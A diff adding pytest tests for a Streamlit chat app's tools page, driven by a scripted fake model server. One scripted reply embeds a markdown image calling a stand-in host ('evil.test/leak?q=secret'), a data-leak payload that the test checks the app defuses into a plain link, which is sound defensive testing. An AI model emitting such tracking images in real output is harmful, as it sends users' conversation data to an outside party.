@@ -1,0 +1,97 @@
+"""The All Tools page in Streamlit's AppTest, talking to a scripted server over real HTTP."""
+
+from pathlib import Path
+
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from app.store import Store
+from tests.scripted_server import Rule, ScriptedServer
+
+MAIN = str(Path(__file__).resolve().parent.parent / "app" / "main.py")
+PLUGIN = '''
+from app.tools import register_tool
+
+
+@register_tool
+def get_weather(city: str) -> str:
+    """Current weather for a city.
+
+    Args:
+        city: City name.
+    """
+    return f"{city}: 21 degrees"
+'''
+RULES = [
+    Rule('get_weather\n{"city": "Paris"}', when="weather"),
+    Rule("\nIt is **21 degrees** ![tracker](http://evil.test/leak?q=secret) in Paris.", when="21 degrees"),
+]
+
+
+@pytest.fixture
+def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
+    plugin = tmp_path / "my_tools.py"
+    plugin.write_text(PLUGIN)
+    with ScriptedServer([Rule(r.reply, r.when) for r in RULES]) as server:
+        monkeypatch.setenv("GLM_BACKEND", "openai")
+        monkeypatch.setenv("GLM_API_BASE", server.base_url)
+        monkeypatch.setenv("GLM_DATA_DIR", str(tmp_path / "data"))
+        monkeypatch.setenv("GLM_TOOLS", str(plugin))
+        monkeypatch.setenv("GLM_SEARCH_BACKEND", "")
+        yield server, tmp_path / "data"
+
+
+def app() -> AppTest:
+    at = AppTest.from_file(MAIN, default_timeout=60)
+    at.run()
+    assert not at.exception
+    return at
+
+
+def test_tool_call_then_answer(env) -> None:
+    server, data = env
+    at = app()
+    assert "get_weather" in [t.label for t in at.sidebar.toggle]
+    at.chat_input[0].set_value("What's the weather in Paris?").run()
+    assert not at.exception
+    user, assistant = at.chat_message
+    assert user.markdown[0].value == "What's the weather in Paris?"
+    answer = assistant.markdown[-1].value
+    assert "**21 degrees**" in answer
+    assert "![" not in answer and "[🖼 tracker](http://evil.test/leak?q=secret)" in answer
+    (status,) = [c for c in assistant.children.values() if type(c).__name__ == "Status"]
+    assert status.label.startswith("🛠 get_weather · ")
+    assert [c.value for c in status.code] == ['{"city": "Paris"}', "Paris: 21 degrees"]
+    conversation_id = at.session_state["conversation:chat"].id
+    assert at.query_params["c"] in (conversation_id, [conversation_id])
+    stored = Store(data).load_conversation("local", conversation_id)
+    assert [m.role for m in stored.messages] == ["user", "assistant", "observation", "assistant"]
+    assert stored.messages[1].metadata == "get_weather"
+
+
+def test_retry_replaces_the_last_answer(env) -> None:
+    server, data = env
+    at = app()
+    at.chat_input[0].set_value("What's the weather in Paris?").run()
+    requests_before = len(server.requests)
+    retry = next(b for b in at.sidebar.button if b.label.startswith("↻"))
+    retry.click().run()
+    assert not at.exception
+    assert len(server.requests) == requests_before + 2
+    assert len(at.chat_message) == 2
+    conversation_id = at.session_state["conversation:chat"].id
+    assert len(Store(data).load_conversation("local", conversation_id).turns) == 1
+
+
+def test_unreachable_server_is_explained(env, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("GLM_API_BASE", "http://127.0.0.1:9/v1")
+    at = app()
+    assert any("Can't reach the OpenAI-compatible server" in e.value for e in at.error)
+    assert at.chat_input[0].disabled
+
+
+@pytest.mark.parametrize("page", ["pages/documents.py", "pages/vision.py"])
+def test_other_pages_render(env, page: str) -> None:
+    at = app()
+    at.switch_page(page).run()
+    assert not at.exception
